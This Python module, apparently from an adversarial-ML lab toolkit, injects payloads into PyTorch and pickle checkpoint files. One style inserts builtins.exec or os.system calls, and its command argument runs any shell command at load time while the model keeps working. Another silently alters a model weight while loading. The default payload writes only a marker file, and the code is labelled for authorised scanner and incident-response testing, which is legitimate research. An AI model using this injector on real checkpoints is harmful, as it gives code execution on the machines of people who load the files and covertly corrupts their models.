"""Payload injection into existing checkpoints — FOR AUTHORISED TESTING AND THE LAB ONLY.

Use this module only on files you own, to test scanners, loaders and incident response. The
default action is harmless: it writes a marker file. Two styles are provided:

* ``exec``: the classic "plain command execution" pickle payload (Trail of Bits, "Never a dill
  moment", 2021): a ``builtins.exec`` (or, with ``command=``, ``os.system``) call is inserted
  right after the ``PROTO`` opcode and its result is discarded, so the original object is still
  rebuilt and the checkpoint keeps working.
* ``tamper``: the "Sleepy Pickle" style (Trail of Bits, 2024): code inserted just before
  ``STOP`` receives the fully rebuilt object (memoised and re-fetched with ``LONG_BINGET``) and
  silently changes one weight in place at load time.

Payload opcodes use protocol-2 instructions only, so they fit into ``torch.save`` output. The
module never loads the result; the tests prove that it works by loading it in a subprocess.
"""

from __future__ import annotations

import io
import logging
import struct
import zipfile
from pathlib import Path
from typing import Literal

from advlab.serialization.pickle_analysis import PickleParseError

log = logging.getLogger(__name__)

Style = Literal["exec", "tamper"]
MARKER_TEXT = "advlab-payload-marker"


def _unicode(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def _exec_call(code: str) -> bytes:
    return b"cbuiltins\nexec\n(" + _unicode(code) + b"tR0"


def exec_payload(marker_path: str | Path, command: str | None = None) -> bytes:
    """Opcodes that run ``command`` with ``os.system`` or, by default, write the marker file."""
    if command is not None:
        return b"cos\nsystem\n(" + _unicode(command) + b"tR0"
    return _exec_call(f"open({str(marker_path)!r}, 'w').write({MARKER_TEXT!r})")


def tamper_code(marker_path: str | Path, key: str | None, delta: float) -> str:
    """Python source run at load time by the tamper payload; ``sd`` is the rebuilt object."""
    return "\n".join(
        [
            "_o = sd",
            "for _k in ('state_dict', 'model_state_dict', 'model'):",
            "    if isinstance(_o, dict) and isinstance(_o.get(_k), dict):",
            "        _o = _o[_k]",
            f"_key = {key!r}",
            "_ts = [(k, v) for k, v in _o.items() if hasattr(v, 'is_floating_point')"
            " and v.is_floating_point() and v.numel() and (_key is None or k == _key)]",
            "if _ts:",
            "    _t = _ts[0][1].data",
            f"    _t[(0,) * _t.dim()] += {float(delta)!r}",
            f"_m = {MARKER_TEXT!r} + ':' + (_ts[0][0] if _ts else '')",
            f"open({str(marker_path)!r}, 'w').write(_m)",
        ]
    )


def _scan_ops(data: bytes) -> tuple[int, int, int]:
    """Return (end of PROTO, offset of the first STOP, next free memo index) of our own file."""
    import pickletools

    proto_end = 0
    stop = -1
    memo = -1
    memoize = 0
    for op, arg, pos in pickletools.genops(data):
        if pos is None:  # pragma: no cover - genops on bytes always reports positions
            continue
        if op.name == "PROTO":
            proto_end = pos + 2
        elif op.name in ("PUT", "BINPUT", "LONG_BINPUT"):
            memo = max(memo, int(str(arg)))
        elif op.name == "MEMOIZE":
            memoize += 1
        elif op.name == "STOP":
            stop = pos
            break
    if stop < 0:
        raise PickleParseError("no STOP opcode", len(data))
    return proto_end, stop, max(memo + 1, memoize)


def inject_pickle(
    data: bytes,
    *,
    style: Style = "exec",
    marker_path: str | Path,
    command: str | None = None,
    key: str | None = None,
    delta: float = 1.0,
) -> bytes:
    """Return ``data`` (one pickle, possibly followed by more bytes) with a payload inserted."""
    if style == "exec":
        # right after PROTO: the rest of the stream (even joblib's raw array bytes) is untouched
        proto_end = 2 if data[:1] == b"\x80" else 0
        return data[:proto_end] + exec_payload(marker_path, command) + data[proto_end:]
    if style == "tamper":
        _, stop, free = _scan_ops(data)
        code = tamper_code(marker_path, key, delta)
        idx = struct.pack("<I", free)
        payload = (
            b"r"
            + idx  # LONG_BINPUT: memoise the rebuilt object
            + b"cbuiltins\nexec\n("
            + _unicode(code)
            + b"}"
            + _unicode("sd")
            + b"j"
            + idx
            + b"s"  # {'sd': <object>}
            + b"tR0"
        )
        return data[:stop] + payload + data[stop:]
    raise ValueError(f"unknown style {style!r}")


def inject_payload(
    src_checkpoint: str | Path,
    dst: str | Path,
    *,
    style: Style = "exec",
    marker_path: str | Path,
    command: str | None = None,
    key: str | None = None,
    delta: float = 1.0,
) -> Path:
    """Copy ``src_checkpoint`` to ``dst`` with a payload in its pickle. AUTHORISED TESTING ONLY.

    Supports PyTorch zip checkpoints (``torch.save`` default) and raw pickle files. The result
    still loads with ``torch.load(weights_only=False)`` / ``pickle.load`` and returns working
    weights; ``style="tamper"`` additionally adds ``delta`` to the first element of the first
    floating tensor (or of ``key``) while loading. Either style writes ``marker_path``.
    """
    src, out = Path(src_checkpoint), Path(dst)
    raw = src.read_bytes()
    log.warning("crafting a %s payload into %s (authorised testing only)", style, out)
    if raw[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(raw)) as zin:
            infos = zin.infolist()
            target = next((i for i in infos if i.filename.endswith("data.pkl")), None)
            if target is None:
                raise ValueError(f"{src}: zip without data.pkl is not a torch checkpoint")
            with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zout:
                for info in infos:
                    body = zin.read(info)
                    if info is target:
                        body = inject_pickle(
                            body,
                            style=style,
                            marker_path=marker_path,
                            command=command,
                            key=key,
                            delta=delta,
                        )
                    zout.writestr(info.filename, body, compress_type=zipfile.ZIP_STORED)
        return out
    if raw[:1] == b"\x80" and raw[2:3] == b"\x8a" and style == "tamper":
        raise ValueError("legacy torch format: storages load after the pickle; use 'exec'")
    out.write_bytes(
        inject_pickle(
            raw, style=style, marker_path=marker_path, command=command, key=key, delta=delta
        )
    )
    return out
